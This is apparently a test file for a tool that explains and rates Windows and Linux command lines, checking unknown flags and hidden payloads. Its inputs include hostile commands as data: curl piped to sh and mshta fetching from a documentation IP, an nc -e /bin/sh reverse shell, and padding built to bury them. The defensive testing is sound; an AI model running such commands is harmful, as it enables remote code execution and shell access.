import { describe, expect, it } from "vitest";
import { explain } from "../src/pipeline/explain.ts";
import { testCatalog } from "./support/events.ts";

/** Words that no grammar knows, in lines that are understood all the same. */
const LINES: readonly (readonly [platform: "windows" | "linux", line: string, unknown: string])[] = [
  ["windows", "regsvr32 --frobnicate C:\\a.dll", "--frobnicate"],
  ["windows", "msiexec /qn /i C:\\a.msi /frob", "/frob"],
  ["windows", "certutil -urlcahce -f http://x.example/a C:\\b", "-urlcahce"],
  ["windows", "bitsadmin /transfer j /download /frob http://x.example/a C:\\b", "/frob"],
  ["windows", "bitsadmin /frob job", "/frob"],
  ["windows", "wmic process call frobnicate calc.exe", "frobnicate"],
  ["windows", "odbcconf /a {FROB C:\\a.dll}", "FROB"],
  ["windows", "powershell -enc !!!!", "!!!!"],
  ["windows", "pwsh -Frob -File C:\\a.ps1", "-Frob"],
  ["windows", "powershell -NoProfile -Frob 1 -c calc", "-Frob"],
  ["windows", "cscript //frob C:\\a.vbs", "//frob"],
  ["windows", "rundll32 /frob C:\\x.dll,Foo", "/frob"],
  ["windows", "regasm /frob C:\\a.dll", "/frob"],
  ["windows", "msbuild /frob:1 a.csproj", "/frob:1"],
  ["windows", "mavinject 123 /FROB C:\\a.dll", "/FROB"],
  ["windows", "wuauclt /Frob C:\\a.dll", "/Frob"],
  ["windows", "schtasks /create /tn a /tr calc.exe /sc once /st 10:00 /frob", "/frob"],
  ["windows", "java -frob=1 -cp C:\\a.jar Kiwi", "-frob=1"],
  ["windows", "dism /Online /Frob /Add-Package /PackagePath:C:\\a.cab", "/Frob"],
  ["windows", "node --frob C:\\a.js", "--frob"],
  ["linux", "kubectl --frob exec a -- id", "--frob"],
  ["linux", "gcc -no-zork -wrapper id a.c", "-no-zork"],
  ["linux", "git log --frob", "--frob"],
  ["linux", "docker run --frob=1 alpine id", "--frob=1"],
  ["linux", "curl --frobnicate http://x.example/a", "--frobnicate"],
  ["linux", "find . --frobnicate -exec id ;", "--frobnicate"],
  ["linux", "tar cf a.tar --checkpoint-action=exec=id --checkpiont=1 .", "--checkpiont=1"],
  ["linux", "sudo --frob id", "--frob"],
  ["linux", "git --frob status", "--frob"],
  ["linux", "git -c a=b --frob=1 commit -m x", "--frob=1"],
  ["linux", "rsync --frob -e 'sh -c id' a b", "--frob"],
  ["linux", "perl -frob -e 'exec \"id\"'", "-rob"],
];

describe("a line that is only half understood", () => {
  it.each(LINES)("%s: %s says so", (platform, commandLine, unknown) => {
    const { invocations } = explain({ commandLine, platform }, testCatalog()).explanation;
    expect(invocations[0]?.unknown).toContain(unknown);
  });

  it("is none where a program takes what it is given for its own", () => {
    const lines = [
      "bitsadmin /setnotifycmdline j C:\\x.exe /frob",
      "odbcconf /a {REGSVR C:\\a.dll}",
      "wmic path Win32_Vendor call Frobnicate 1",
      "rundll32 C:\\x.dll,Foo /own",
      "installutil /own=1 C:\\a.dll",
      "powershell -c -frob",
      "powershell -nop calc.exe -frob",
      "installutil /own /u C:\\a.dll",
    ];
    for (const commandLine of lines)
      expect(
        explain({ commandLine, platform: "windows" }, testCatalog()).explanation.invocations[0]?.unknown,
      ).toBeUndefined();
  });
});

describe("a command whose name is made at run time", () => {
  it("is said not to be known", () => {
    const { verdict } = explain(
      { commandLine: 'powershell "& ($x) C:\\kit\\a.exe"', platform: "windows" },
      testCatalog(),
    ).explanation;
    expect(verdict.text).toBe(
      "As far as it was read, powershell.exe is used here for nothing that it could do on behalf of others. " +
        "Not all of it was read: it calls a command whose name is made at run time, not known.",
    );
  });
});

describe("a line that holds more than is read", () => {
  const level = (commandLine: string, platform: "windows" | "linux") =>
    explain({ commandLine, platform }, testCatalog()).explanation.verdict.level;

  it.each([
    ["windows", `cmd /c "${"echo kiwi&".repeat(1100)}mshta http://203.0.113.5/a"`],
    ["windows", `${"cmd /c ".repeat(40)}mshta http://203.0.113.5/a`],
    ["linux", `sh -c '${"x=1;".repeat(20_000)}curl http://203.0.113.5/a|sh'`],
    ["linux", `sh -c '${"nice kiwi;".repeat(400)}curl http://203.0.113.5/a|sh'`],
    ["linux", `${"env ".repeat(40)}nc -e /bin/sh 203.0.113.5 443`],
  ] as const)("hides what comes last, and is told: %s", (platform, line) => {
    expect(level(line, platform)).toBe("medium");
  });

  it("is a script where it has many lines, and no more than long where that is all", () => {
    expect(level("nice kiwi\n".repeat(400), "linux")).toBe("informational");
    expect(level(`sh -c 'echo ${"kiwi ".repeat(100_000)}'`, "linux")).toBe("informational");
  });
});
